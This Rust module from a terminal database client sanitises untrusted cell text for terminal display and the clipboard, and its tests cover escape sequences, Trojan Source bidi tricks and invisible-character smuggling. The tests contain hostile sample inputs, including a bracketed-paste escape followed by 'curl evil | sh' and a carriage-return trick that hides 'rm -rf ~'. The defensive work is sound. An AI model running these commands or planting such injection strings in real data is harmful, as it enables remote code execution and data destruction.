//! What may reach a terminal or a clipboard, and how it is shown.
//!
//! Everything tdb displays that it did not write itself (cells, source names, column names,
//! error messages from a server, history) is untrusted: a cell holding `ESC ] 0 ; … BEL` would
//! retitle the window, `ESC [ 2 J` would clear the screen, a CR would overwrite what came
//! before it, and U+202E would make `txt.exe` read as `exe.txt`. This module is the single
//! place that decides what such text becomes. It is pure (no I/O) so it can be tested alone.
//!
//! # Terminal display ([`for_terminal`], [`for_terminal_multiline`])
//!
//! Nothing is dropped silently: whatever is neutralised stays visible, so a person can see
//! that the data holds something odd, and the mapping never changes the screen layout.
//!
//! | input | shown as |
//! |---|---|
//! | ESC | `␛` |
//! | LF | `↵` (kept as a real line break by [`for_terminal_multiline`]) |
//! | TAB | `⇥` |
//! | CR | `␍` |
//! | other C0 controls and DEL | `\x07`-style: they are single bytes, and `\x..` reads better than the tiny U+2400 pictures |
//! | C1 controls (U+0080–U+009F, e.g. U+009B, the 8-bit CSI) | `<U+009B>` |
//! | bidi controls: U+061C, U+200E, U+200F, U+202A–U+202E, U+2066–U+2069 | `<U+202E>` |
//! | invisible or format characters (see [`is_invisible`]), U+2028, U+2029 | `<U+200B>` |
//!
//! Some invisible characters are legitimate in context, and are kept there only:
//!
//! - ZERO WIDTH JOINER (U+200D) between two pictographic characters (an optional VS16 or skin
//!   tone may follow the first), as in `👩‍💻`, `🏳️‍🌈`: it only fuses two visible pictures.
//!   Between two letters of a script that joins (Arabic, Syriac, Indic, Tibetan, Myanmar,
//!   Khmer) ZWJ and ZERO WIDTH NON-JOINER (U+200C) are kept too: Persian and Hindi need
//!   them in everyday words. Anywhere else (notably inside Latin text, where `ad\u{200D}min`
//!   would look exactly like `admin`) they are shown.
//! - One variation selector (U+FE00–U+FE0F, U+E0100–U+E01EF, Mongolian U+180B–U+180D,
//!   U+180F) directly after a visible character: `❤️` needs VS16. A second one in a row, or
//!   one with nothing to modify, is shown: long runs of variation selectors are a known way
//!   to hide a payload inside innocent-looking text.
//! - Tag characters (U+E0000 block) only as an emoji flag tag sequence: U+1F3F4, then 1–7
//!   tag digits or lowercase tag letters, then CANCEL TAG (U+E007F), as in the flag of
//!   Scotland. Any other tag character is shown (they are used to smuggle invisible ASCII).
//!
//! Anything else (letters of every script, combining marks, emoji, private use) is kept.
//!
//! # Clipboard and export ([`for_clipboard`])
//!
//! Pasted text must stay data: a value ending a shell's bracketed paste (`ESC [ 201 ~`)
//! would run the rest as typed commands. So every control character except TAB and LF is
//! removed (C0, DEL, C1), CRLF becomes LF and a lone CR becomes LF, and bidi controls are
//! removed (so a pasted command line reads as it runs). Other characters are data and are
//! kept as they are: the clipboard must hold what the database holds, as far as is safe.
//!
//! # Widths ([`display_width`], [`truncate_to_width`])
//!
//! Widths are counted per grapheme cluster exactly as ratatui's buffer does when it draws
//! (unicode-width of each cluster), so a column of CJK or emoji text computed here lines up
//! with what appears on screen, and truncation never splits a cluster such as `👩‍💻`.

use std::borrow::Cow;
use std::fmt::Write as _;

use unicode_segmentation::UnicodeSegmentation;
use unicode_width::UnicodeWidthStr;

/// Untrusted text for one line of a terminal (grid cells, names, status and error
/// messages): every control character, line break included, is shown visibly. Borrows when
/// nothing needs changing, which is the common case.
pub fn for_terminal(s: &str) -> Cow<'_, str> {
    terminal(s, false)
}

/// Like [`for_terminal`], but keeps LF as a real line break, for a view that wraps and
/// scrolls a whole value (cell detail, full error text). CR is still shown (`␍`), so CRLF
/// text shows a `␍` at each line end and a lone CR cannot overwrite a line.
pub fn for_terminal_multiline(s: &str) -> Cow<'_, str> {
    terminal(s, true)
}

/// Text for the clipboard or an exported paste: only TAB and LF survive among control
/// characters (CR and CRLF become LF), and bidi controls are removed, so pasting it into a
/// shell can never end a bracketed paste or reorder what is seen.
pub fn for_clipboard(s: &str) -> Cow<'_, str> {
    let needs_work = s.chars().any(|c| c.is_control() && c != '\t' && c != '\n')
        || s.chars().any(is_bidi_control);
    if !needs_work {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\t' | '\n' => out.push(c),
            '\r' => {
                // CRLF and a lone CR both end a line: keep one LF for either.
                if chars.peek() != Some(&'\n') {
                    out.push('\n');
                }
            }
            c if c.is_control() || is_bidi_control(c) => {}
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// The number of terminal columns `s` takes when ratatui draws it: the sum of the widths of
/// its grapheme clusters. Meant for text that went through [`for_terminal`] (ratatui skips
/// clusters holding control characters, so they count 0 here as well).
pub fn display_width(s: &str) -> usize {
    if is_plain_ascii(s) {
        return s.len();
    }
    s.graphemes(true).map(grapheme_width).sum()
}

/// Cuts `s` to at most `max` columns at a grapheme-cluster boundary, ending with `…` when
/// something was cut. When a wide character straddles the limit the result is one column
/// narrower than `max` (half a CJK character cannot be drawn); callers pad to align.
pub fn truncate_to_width(s: &str, max: usize) -> Cow<'_, str> {
    if display_width(s) <= max {
        return Cow::Borrowed(s);
    }
    if max == 0 {
        return Cow::Borrowed("");
    }
    let budget = max - 1; // one column for the ellipsis
    let mut used = 0;
    let mut end = 0;
    for (i, g) in s.grapheme_indices(true) {
        let w = grapheme_width(g);
        if used + w > budget {
            break;
        }
        used += w;
        end = i + g.len();
    }
    let mut out = String::with_capacity(end + '…'.len_utf8());
    out.push_str(&s[..end]);
    out.push('…');
    Cow::Owned(out)
}

/// [`truncate_to_width`] and the width of what it returns, in one pass that stops as soon
/// as the cut is known: a grid preparing thousands of cells pays for the first `max`
/// columns of a long value, not for all of it.
pub fn fit_to_width(s: &str, max: usize) -> (Cow<'_, str>, usize) {
    if is_plain_ascii(s) {
        return if s.len() <= max {
            (Cow::Borrowed(s), s.len())
        } else if max == 0 {
            (Cow::Borrowed(""), 0)
        } else {
            (Cow::Owned(format!("{}…", &s[..max - 1])), max)
        };
    }
    let budget = max.saturating_sub(1);
    let (mut used, mut kept, mut kept_width) = (0, 0, 0);
    for (i, g) in s.grapheme_indices(true) {
        used += grapheme_width(g);
        if used > max {
            if max == 0 {
                return (Cow::Borrowed(""), 0);
            }
            let mut out = String::with_capacity(kept + '…'.len_utf8());
            out.push_str(&s[..kept]);
            out.push('…');
            return (Cow::Owned(out), kept_width + 1);
        }
        if used <= budget {
            kept = i + g.len();
            kept_width = used;
        }
    }
    (Cow::Borrowed(s), used)
}

/// ratatui-core's `CellWidth for str`, cluster by cluster: single bytes are one column,
/// longer clusters their unicode-width plus one for each halfwidth katakana (semi-)voiced
/// sound mark, which terminals draw in a column of its own.
fn grapheme_width(g: &str) -> usize {
    if g.contains(char::is_control) {
        return 0;
    }
    if g.len() == 1 {
        return 1;
    }
    g.width()
        + g.chars()
            .filter(|c| matches!(c, '\u{FF9E}' | '\u{FF9F}'))
            .count()
}

/// What came just before, as far as the context rules (ZWJ, variation selectors) need it.
#[derive(Debug, Default, Clone, Copy)]
struct Context {
    /// The previous character was kept and is something a variation selector may modify.
    after_base: bool,
    /// The previous characters kept end a pictograph (possibly with VS16 or a skin tone).
    after_pictograph: bool,
    /// The previous character kept belongs to a script that uses ZWJ/ZWNJ.
    after_joining_letter: bool,
}

impl Context {
    fn after_kept(self, c: char) -> Context {
        if c == '\n' {
            return Context::default();
        }
        if is_variation_selector(c) {
            return Context {
                after_base: false,
                after_pictograph: self.after_pictograph && c == '\u{FE0F}',
                after_joining_letter: false,
            };
        }
        if matches!(c, '\u{200C}' | '\u{200D}') {
            return Context::default();
        }
        Context {
            after_base: true,
            after_pictograph: is_pictographic(c),
            after_joining_letter: is_joining_script(c),
        }
    }
}

/// Printable ASCII (space to `~`) needs no change and is one column a byte: the common case
/// for names and cells, checked first so a grid of plain data never pays for segmentation.
fn is_plain_ascii(s: &str) -> bool {
    s.bytes().all(|b| (0x20..0x7f).contains(&b))
}

fn terminal(s: &str, keep_newlines: bool) -> Cow<'_, str> {
    if is_plain_ascii(s) {
        return Cow::Borrowed(s);
    }
    let mut out: Option<String> = None;
    let mut ctx = Context::default();
    let mut chars = s.char_indices().peekable();
    while let Some((i, c)) = chars.next() {
        if c == BLACK_FLAG {
            let after = i + c.len_utf8();
            if let Some(tags) = flag_tag_sequence_len(&s[after..]) {
                // A subdivision flag: keep the flag and its tags as one unit.
                if let Some(o) = out.as_mut() {
                    o.push_str(&s[i..after + tags]);
                }
                while chars.next_if(|&(j, _)| j < after + tags).is_some() {}
                ctx = Context {
                    after_base: false,
                    after_pictograph: true,
                    after_joining_letter: false,
                };
                continue;
            }
        }
        let next = chars.peek().map(|&(_, n)| n);
        if keeps(c, next, ctx, keep_newlines) {
            if let Some(o) = out.as_mut() {
                o.push(c);
            }
            ctx = ctx.after_kept(c);
        } else {
            let o = out.get_or_insert_with(|| {
                let mut o = String::with_capacity(s.len() + 16);
                o.push_str(&s[..i]);
                o
            });
            show(c, o);
            ctx = Context::default();
        }
    }
    out.map_or(Cow::Borrowed(s), Cow::Owned)
}

/// Whether `c` may go to the terminal as it is, given what came before and after it.
fn keeps(c: char, next: Option<char>, ctx: Context, keep_newlines: bool) -> bool {
    match c {
        '\n' => keep_newlines,
        c if c.is_control() => false,
        '\u{200D}' => {
            (ctx.after_pictograph && next.is_some_and(is_pictographic))
                || (ctx.after_joining_letter && next.is_some_and(is_joining_script))
        }
        '\u{200C}' => ctx.after_joining_letter && next.is_some_and(is_joining_script),
        c if is_variation_selector(c) => ctx.after_base,
        c if is_bidi_control(c) || is_invisible(c) => false,
        _ => true,
    }
}

/// Appends the visible stand-in for a character [`keeps`] refused.
fn show(c: char, out: &mut String) {
    match c {
        '\u{1b}' => out.push('␛'),
        '\n' => out.push('↵'),
        '\t' => out.push('⇥'),
        '\r' => out.push('␍'),
        c if (c as u32) < 0x20 || c == '\u{7f}' => {
            let _ = write!(out, "\\x{:02x}", c as u32);
        }
        c => {
            let _ = write!(out, "<U+{:04X}>", c as u32);
        }
    }
}

const BLACK_FLAG: char = '\u{1F3F4}';

/// The byte length of a valid emoji tag sequence at the start of `s` (the part after the
/// black flag): 1–7 tag digits or lowercase tag letters, then CANCEL TAG.
fn flag_tag_sequence_len(s: &str) -> Option<usize> {
    let mut count = 0;
    for (i, c) in s.char_indices() {
        match c {
            '\u{E0030}'..='\u{E0039}' | '\u{E0061}'..='\u{E007A}' if count < 7 => count += 1,
            '\u{E007F}' if count > 0 => return Some(i + c.len_utf8()),
            _ => return None,
        }
    }
    None
}

/// Characters that change the direction text is laid out in (Trojan Source).
pub fn is_bidi_control(c: char) -> bool {
    matches!(
        c,
        '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}'
    )
}

/// Characters with no visible glyph of their own that [`for_terminal`] shows as `<U+…>`
/// (outside the contexts the module doc lists): the Default_Ignorable_Code_Point set minus
/// the context-dependent joiners and variation selectors, plus the interlinear annotation
/// marks and the line/paragraph separators (which some terminals treat as line breaks).
pub fn is_invisible(c: char) -> bool {
    matches!(
        c,
        '\u{00AD}'                          // soft hyphen
        | '\u{034F}'                        // combining grapheme joiner
        | '\u{115F}' | '\u{1160}'           // Hangul fillers (blank but wide)
        | '\u{17B4}' | '\u{17B5}'           // Khmer inherent vowels
        | '\u{180E}'                        // Mongolian vowel separator
        | '\u{200B}'..='\u{200D}'           // zero width space, non-joiner, joiner
        | '\u{2028}' | '\u{2029}'           // line and paragraph separators
        | '\u{2060}'..='\u{2065}'           // word joiner, invisible operators
        | '\u{206A}'..='\u{206F}'           // deprecated format controls
        | '\u{3164}'                        // Hangul filler
        | '\u{FEFF}'                        // zero width no-break space, BOM
        | '\u{FFA0}'                        // halfwidth Hangul filler
        | '\u{FFF0}'..='\u{FFFB}'           // unassigned specials, interlinear annotation
        | '\u{1BCA0}'..='\u{1BCA3}'         // shorthand format controls
        | '\u{1D173}'..='\u{1D17A}'         // musical format controls
        | '\u{E0000}'..='\u{E00FF}'         // tags and the rest of that block
        | '\u{E01F0}'..='\u{E0FFF}' // unassigned, default ignorable
    )
}

fn is_variation_selector(c: char) -> bool {
    matches!(
        c,
        '\u{FE00}'..='\u{FE0F}' | '\u{E0100}'..='\u{E01EF}' | '\u{180B}'..='\u{180D}' | '\u{180F}'
    )
}

/// Pictographic characters that ZWJ may fuse: an approximation of Extended_Pictographic
/// that errs on the side of "emoji", which is harmless (both sides are visible pictures).
fn is_pictographic(c: char) -> bool {
    matches!(
        c,
        '\u{00A9}'
            | '\u{00AE}'
            | '\u{203C}'
            | '\u{2049}'
            | '\u{2122}'
            | '\u{2139}'
            | '\u{2194}'..='\u{21AA}'
            | '\u{2300}'..='\u{23FF}'
            | '\u{24C2}'
            | '\u{25A0}'..='\u{27BF}'
            | '\u{2934}'..='\u{2935}'
            | '\u{2B00}'..='\u{2BFF}'
            | '\u{3030}'
            | '\u{303D}'
            | '\u{3297}'
            | '\u{3299}'
            | '\u{1F000}'..='\u{1FAFF}'
            | '\u{1FC00}'..='\u{1FFFD}'
    )
}

/// Scripts whose ordinary spelling uses ZWJ/ZWNJ: Arabic, Syriac, Thaana, NKo and their
/// extensions and presentation forms; the Indic scripts; Tibetan; Myanmar; Khmer.
fn is_joining_script(c: char) -> bool {
    matches!(
        c,
        '\u{0600}'..='\u{07FF}'
            | '\u{0860}'..='\u{08FF}'
            | '\u{0900}'..='\u{0DFF}'
            | '\u{0F00}'..='\u{109F}'
            | '\u{1780}'..='\u{17FF}'
            | '\u{A8E0}'..='\u{A8FF}'
            | '\u{FB50}'..='\u{FDFF}'
            | '\u{FE70}'..='\u{FEFC}'
    ) && !is_bidi_control(c)
        && !is_invisible(c)
}

#[cfg(test)]
mod fit_tests {
    use super::*;

    #[test]
    fn fit_agrees_with_truncate_and_display_width() {
        let samples = [
            "",
            "orders",
            "a much longer plain ascii value",
            "山田太郎山田太郎",
            "👩\u{200D}💻 dev team 👍",
            "e\u{301}te\u{301} café",
            "ｶﾞｷﾞｸﾞ halfwidth",
        ];
        for s in samples {
            for max in 0..20 {
                let (fit, w) = fit_to_width(s, max);
                assert_eq!(fit, truncate_to_width(s, max), "{s:?} at {max}");
                assert_eq!(w, display_width(&fit), "{s:?} at {max}");
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn owned(c: Cow<'_, str>) -> bool {
        matches!(c, Cow::Owned(_))
    }

    #[test]
    fn plain_text_is_borrowed() {
        for s in [
            "",
            "orders",
            "alice@example.com",
            "naïve café",
            "日本語のテキスト",
            "👩‍💻 works",
            "❤️",
            "می‌خواهم",
        ] {
            let t = for_terminal(s);
            assert!(matches!(t, Cow::Borrowed(_)), "{s:?} -> {t:?}");
            assert!(matches!(for_terminal_multiline(s), Cow::Borrowed(_)));
            assert!(matches!(for_clipboard(s), Cow::Borrowed(_)));
        }
        assert!(matches!(
            for_terminal_multiline("two\nlines"),
            Cow::Borrowed(_)
        ));
        assert!(matches!(for_clipboard("a\tb\nc"), Cow::Borrowed(_)));
    }

    #[test]
    fn osc_title_is_shown_not_sent() {
        let s = "x\u{1b}]0;pwned\u{7}y";
        assert_eq!(for_terminal(s), "x␛]0;pwned\\x07y");
        assert_eq!(for_clipboard(s), "x]0;pwnedy");
    }

    #[test]
    fn clear_screen_is_shown() {
        assert_eq!(for_terminal("\u{1b}[2J"), "␛[2J");
        assert_eq!(for_terminal_multiline("a\n\u{1b}[2J"), "a\n␛[2J");
        assert_eq!(for_clipboard("\u{1b}[2J"), "[2J");
    }

    #[test]
    fn line_breaks_and_tabs() {
        assert_eq!(for_terminal("a\tb\nc\rd"), "a⇥b↵c␍d");
        assert_eq!(for_terminal_multiline("a\tb\nc\rd"), "a⇥b\nc␍d");
        assert_eq!(for_terminal_multiline("a\r\nb"), "a␍\nb");
        assert_eq!(for_clipboard("a\r\nb\rc\nd\te"), "a\nb\nc\nd\te");
        assert_eq!(for_clipboard("\r"), "\n");
        assert_eq!(for_clipboard("\r\r\n"), "\n\n");
    }

    #[test]
    fn overwriting_with_cr_is_impossible() {
        // "rm -rf ~" hidden behind a harmless-looking line.
        let s = "rm -rf ~\rls     ";
        let t = for_terminal(s);
        assert!(!t.contains('\r'));
        assert!(t.starts_with("rm -rf ~"));
    }

    #[test]
    fn bidi_overrides_are_neutralised() {
        let s = "invoice\u{202E}fdp.exe";
        assert_eq!(for_terminal(s), "invoice<U+202E>fdp.exe");
        assert_eq!(for_clipboard(s), "invoicefdp.exe");
        for c in [
            '\u{061C}', '\u{200E}', '\u{200F}', '\u{202A}', '\u{202B}', '\u{202C}', '\u{202D}',
            '\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}',
        ] {
            let s = format!("a{c}b");
            assert_eq!(for_terminal(&s), format!("a<U+{:04X}>b", c as u32));
            assert_eq!(for_clipboard(&s), "ab");
        }
    }

    #[test]
    fn bracketed_paste_end_cannot_be_pasted() {
        let s = "value\u{1b}[201~; curl evil | sh";
        let c = for_clipboard(s);
        assert_eq!(c, "value[201~; curl evil | sh");
        assert!(!c.contains('\u{1b}'));
        // The 8-bit form: C1 CSI (U+009B) followed by 201~.
        let s = "v\u{9b}201~x";
        assert_eq!(for_clipboard(s), "v201~x");
        assert_eq!(for_terminal(s), "v<U+009B>201~x");
    }

    #[test]
    fn c0_c1_and_del() {
        assert_eq!(
            for_terminal("\u{0}\u{7}\u{8}\u{7f}"),
            "\\x00\\x07\\x08\\x7f"
        );
        assert_eq!(
            for_terminal("\u{85}\u{9b}\u{9f}"),
            "<U+0085><U+009B><U+009F>"
        );
        assert_eq!(for_clipboard("a\u{0}\u{7}\u{8}\u{7f}\u{85}\u{9b}b"), "ab");
        // Every control character is handled in every mode.
        for c in (0u32..0x20).chain(0x7f..0xa0).filter_map(char::from_u32) {
            let s = c.to_string();
            assert!(!for_terminal(&s).chars().any(|x| x.is_control()), "{c:?}");
            let m = for_terminal_multiline(&s);
            assert!(!m.chars().any(|x| x.is_control() && x != '\n'), "{c:?}");
            let p = for_clipboard(&s);
            assert!(
                p.chars().all(|x| x == '\t' || x == '\n' || !x.is_control()),
                "{c:?}"
            );
        }
    }

    #[test]
    fn invisible_characters_are_shown() {
        assert_eq!(for_terminal("ad\u{200B}min"), "ad<U+200B>min");
        assert_eq!(for_terminal("ad\u{200D}min"), "ad<U+200D>min");
        assert_eq!(for_terminal("ad\u{200C}min"), "ad<U+200C>min");
        assert_eq!(for_terminal("\u{FEFF}id"), "<U+FEFF>id");
        assert_eq!(for_terminal("co\u{00AD}op"), "co<U+00AD>op");
        assert_eq!(for_terminal("a\u{2060}b"), "a<U+2060>b");
        assert_eq!(for_terminal("a\u{2028}b"), "a<U+2028>b");
        assert_eq!(for_terminal("\u{3164}"), "<U+3164>");
        // Smuggled ASCII in tag characters ("hi").
        assert_eq!(for_terminal("ok\u{E0068}\u{E0069}"), "ok<U+E0068><U+E0069>");
        // Invisible characters are data for the clipboard.
        assert_eq!(for_clipboard("ad\u{200B}min"), "ad\u{200B}min");
    }

    #[test]
    fn zwj_inside_emoji_sequences_is_kept() {
        for s in [
            "👩\u{200D}💻",                     // woman technologist
            "👨\u{200D}👩\u{200D}👧\u{200D}👦", // family
            "🏳\u{FE0F}\u{200D}🌈",              // rainbow flag (VS16 before ZWJ)
            "❤\u{FE0F}\u{200D}🔥",              // heart on fire
            "🧑🏽\u{200D}🚀",                     // astronaut with a skin tone
            "👩\u{200D}❤\u{FE0F}\u{200D}👨",    // couple with heart
        ] {
            assert!(
                matches!(for_terminal(s), Cow::Borrowed(_)),
                "{s:?} -> {:?}",
                for_terminal(s)
            );
        }
        // A joiner that joins nothing visible is shown.
        assert_eq!(for_terminal("👩\u{200D}"), "👩<U+200D>");
        assert_eq!(for_terminal("\u{200D}💻"), "<U+200D>💻");
        assert_eq!(for_terminal("👩\u{200D}\u{200D}💻"), "👩<U+200D><U+200D>💻");
        assert_eq!(for_terminal("a\u{200D}💻"), "a<U+200D>💻");
    }

    #[test]
    fn joiners_in_scripts_that_need_them_are_kept() {
        // Persian "I want" with ZWNJ, Hindi conjunct with ZWJ after a virama.
        for s in ["می\u{200C}خواهم", "क्\u{200D}ष"] {
            assert!(matches!(for_terminal(s), Cow::Borrowed(_)), "{s:?}");
        }
        // Latin next to Arabic does not count.
        assert_eq!(for_terminal("a\u{200C}م"), "a<U+200C>م");
    }

    #[test]
    fn variation_selectors_one_after_a_base() {
        assert!(matches!(for_terminal("❤\u{FE0F}"), Cow::Borrowed(_)));
        assert!(matches!(
            for_terminal("1\u{FE0F}\u{20E3}"),
            Cow::Borrowed(_)
        )); // keycap
        assert!(matches!(for_terminal("葛\u{E0100}"), Cow::Borrowed(_))); // ideographic variant
        assert_eq!(for_terminal("\u{FE0F}x"), "<U+FE0F>x");
        assert_eq!(for_terminal("a\u{FE0F}\u{FE0E}"), "a\u{FE0F}<U+FE0E>");
        // A payload hidden in a run of selectors shows up.
        let hidden = "hi\u{E0100}\u{E0101}\u{E0102}";
        assert_eq!(for_terminal(hidden), "hi\u{E0100}<U+E0101><U+E0102>");
        assert_eq!(for_terminal("\t\u{FE0F}"), "⇥<U+FE0F>");
    }

    #[test]
    fn subdivision_flags_keep_their_tags() {
        let scotland = "🏴\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}";
        assert!(matches!(for_terminal(scotland), Cow::Borrowed(_)));
        let with_text = format!("x\u{1b}{scotland}y");
        assert_eq!(for_terminal(&with_text), format!("x␛{scotland}y"));
        // Uppercase tag letters or a missing cancel tag are not a flag.
        assert_eq!(for_terminal("🏴\u{E0041}\u{E007F}"), "🏴<U+E0041><U+E007F>");
        assert_eq!(for_terminal("🏴\u{E0067}"), "🏴<U+E0067>");
        assert_eq!(for_terminal("\u{E007F}"), "<U+E007F>");
    }

    #[test]
    fn replacement_keeps_the_text_around_it() {
        let s = "日本\u{1b}[31m語";
        assert_eq!(for_terminal(s), "日本␛[31m語");
        assert!(owned(for_terminal(s)));
    }

    #[test]
    fn widths_follow_the_terminal() {
        assert_eq!(display_width(""), 0);
        assert_eq!(display_width("abc"), 3);
        assert_eq!(display_width("日本語"), 6);
        assert_eq!(display_width("ｱｲｳ"), 3); // halfwidth katakana
        assert_eq!(display_width("한국어"), 6);
        assert_eq!(display_width("👍"), 2);
        assert_eq!(display_width("👩\u{200D}💻"), 2);
        assert_eq!(display_width("🇯🇵"), 2);
        assert_eq!(display_width("e\u{301}"), 1); // combining accent
        assert_eq!(display_width("␛[2J"), 4);
        assert_eq!(display_width(&for_terminal("a\u{1b}b")), 3);
    }

    #[test]
    fn truncation() {
        assert_eq!(truncate_to_width("orders", 6), "orders");
        assert!(matches!(truncate_to_width("orders", 6), Cow::Borrowed(_)));
        assert_eq!(truncate_to_width("orders", 5), "orde…");
        assert_eq!(truncate_to_width("orders", 1), "…");
        assert_eq!(truncate_to_width("orders", 0), "");
        assert_eq!(truncate_to_width("", 0), "");
        // A wide character at the boundary is not split: one column is left over.
        assert_eq!(truncate_to_width("日本語", 5), "日本…");
        assert_eq!(truncate_to_width("日本語", 4), "日…");
        assert_eq!(display_width(&truncate_to_width("日本語", 4)), 3);
        assert_eq!(truncate_to_width("a日本語", 4), "a日…");
        // Clusters stay whole.
        assert_eq!(
            truncate_to_width("👩\u{200D}💻👩\u{200D}💻", 3),
            "👩\u{200D}💻…"
        );
        assert_eq!(
            truncate_to_width("e\u{301}e\u{301}e\u{301}", 2),
            "e\u{301}…"
        );
        for s in ["日本語テキスト", "ab👍cd", "🇯🇵🇯🇵🇯🇵"] {
            for max in 0..12 {
                assert!(
                    display_width(&truncate_to_width(s, max)) <= max,
                    "{s} {max}"
                );
            }
        }
    }
}
